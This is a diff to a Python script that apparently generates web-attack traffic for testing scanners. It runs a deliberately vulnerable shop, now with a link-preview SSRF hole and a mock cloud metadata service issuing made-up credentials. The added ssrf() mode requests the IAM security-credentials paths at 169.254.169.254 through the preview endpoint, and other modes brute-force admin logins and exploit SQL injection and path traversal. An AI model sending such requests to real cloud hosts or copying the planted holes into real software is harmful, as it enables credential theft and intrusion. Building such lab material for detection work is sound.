@@ -1,6 +1,8 @@
 """A small shop over HTTP with the faults that web scanners look for, a scanner that looks for them, and a visitor who does not.
 
-web-attacks.py serve|sql|traversal|scan|guess|honest ADDRESS
+It also shows previews of links, also of those that lead to its instance's metadata: METADATA is that service, as it answers without a session.
+
+web-attacks.py serve|sql|traversal|scan|guess|ssrf|honest ADDRESS
 """
 import base64
 import http.client
@@ -9,9 +11,12 @@ import json
 import os
 import random
 import sqlite3
+import string
 import sys
+import threading
 import time
 import urllib.parse
+import urllib.request
 
 ROOT = os.path.join(os.environ.get("SHOP", "/nonexistent"), "")
 AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
@@ -42,6 +47,8 @@ class Shop(http.server.BaseHTTPRequestHandler):
             return self.item(q.get("id", "1"))
         if path == "/file":
             return self.file(q.get("name", ""))
+        if path == "/preview":
+            return self.preview(q.get("url", ""))
         if path == "/search":
             return self.answer(200, "<p>nothing like %s</p>" % q.get("q", "").replace("<", "&lt;"))
         if path == "/private":
@@ -64,6 +71,13 @@ class Shop(http.server.BaseHTTPRequestHandler):
             return self.answer(500, "sqlite3.OperationalError: %s in SELECT name, price FROM items" % e)
         self.answer(200, json.dumps(rows), "application/json")
 
+    def preview(self, link):  # the fault: the link is followed wherever it leads
+        try:
+            with urllib.request.urlopen(link, timeout=3) as r:
+                self.answer(200, r.read(4096), r.headers.get("Content-Type", "text/plain"))
+        except (OSError, ValueError):
+            self.answer(502, "no preview")
+
     def file(self, name):  # the fault: the steps up are followed
         try:
             with open(os.path.join(ROOT, name), "rb") as f:
@@ -72,10 +86,31 @@ class Shop(http.server.BaseHTTPRequestHandler):
             self.answer(404, "no such file")
 
 
+class Metadata(http.server.BaseHTTPRequestHandler):
+    """The metadata service of an instance whose role is web-role, in its first version. Its keys are made up anew each time."""
+
+    def log_message(self, *_):
+        pass
+
+    def do_GET(self):
+        base, some = "/latest/meta-data/iam/security-credentials/", lambda n: "".join(random.choices(string.ascii_letters + string.digits, k=n))
+        keys = {"Code": "Success", "Type": "AWS-HMAC", "AccessKeyId": "ASIA" + some(16).upper(), "SecretAccessKey": some(40), "Token": some(300),
+                "LastUpdated": "2026-03-02T04:00:00Z", "Expiration": "2026-03-02T10:00:00Z"}
+        body = {base: "web-role", base + "web-role": json.dumps(keys, indent=2), "/latest/meta-data/": "iam/\ninstance-id\nlocal-ipv4"}.get(self.path, "")
+        self.send_response(200 if body else 404)
+        self.send_header("Content-Type", "text/plain")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body.encode())
+
+
 def serve(address):
     Shop.db.executescript("create table items (id integer, name text, price real); insert into items values (1, 'lamp', 9.9), (2, 'chair', 49);"
                           "create table users (name text, word text); insert into users values ('admin', 'x')")
-    http.server.ThreadingHTTPServer((address, 80), Shop).serve_forever()
+    shop = http.server.ThreadingHTTPServer((address, 80), Shop)
+    if "METADATA" in os.environ:
+        threading.Thread(target=http.server.HTTPServer((os.environ["METADATA"], 80), Metadata).serve_forever, daemon=True).start()
+    shop.serve_forever()
 
 
 class Visit:
@@ -123,6 +158,15 @@ def guess(address):
         v = Visit(address)
         v.post("/login", user="admin", password="guess%d" % (n * 7919 % 10007))
     Visit(address).post("/login", user="admin", password="Summer2026!")
+
+
+def ssrf(address):
+    v = Visit(address)
+    v.get("/")
+    for link in ["http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+                 "http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role"]:
+        v.get("/preview?url=" + urllib.parse.quote(link, safe=""))
+        time.sleep(1)
 
 
 def honest(address):
